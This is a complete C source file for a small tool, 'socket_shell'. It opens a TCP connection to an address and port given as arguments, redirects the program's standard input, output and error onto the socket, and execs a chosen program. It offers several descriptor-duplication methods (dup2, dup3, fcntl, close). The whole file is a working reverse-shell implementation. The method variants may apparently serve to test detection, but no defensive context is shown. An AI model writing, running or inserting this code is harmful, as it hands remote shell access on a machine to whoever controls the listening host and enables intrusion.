/* socket_shell HOW ADDRESS PORT PROGRAM [ARG...]: connects, puts the connection where PROGRAM's descriptors 0 to 2 are, starts it.
 * HOW: dup2, dup3, fcntl (F_DUPFD of a closed number), close (the connection's number is 0 from the start), output (only 1 and 2). */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void put(const char *how, int from, int at)
{
	if (from == at)
		return;
	if (strcmp(how, "dup3") == 0) {
		dup3(from, at, 0);
	} else if (strcmp(how, "fcntl") == 0) {
		close(at);
		fcntl(from, F_DUPFD, at);
	} else {
		dup2(from, at);
	}
}

int main(int argc, char **argv)
{
	struct sockaddr_in there = {.sin_family = AF_INET};

	if (argc < 5)
		return 2;
	there.sin_port = htons((unsigned short)atoi(argv[3]));
	inet_pton(AF_INET, argv[2], &there.sin_addr);
	if (strcmp(argv[1], "close") == 0)
		close(0);
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	if (fd < 0 || connect(fd, (struct sockaddr *)&there, sizeof(there)) < 0)
		return 1;
	for (int at = strcmp(argv[1], "output") == 0 ? 1 : 0; at < 3; at++)
		put(argv[1], fd, at);
	execv(argv[4], argv + 4);
	return 1;
}
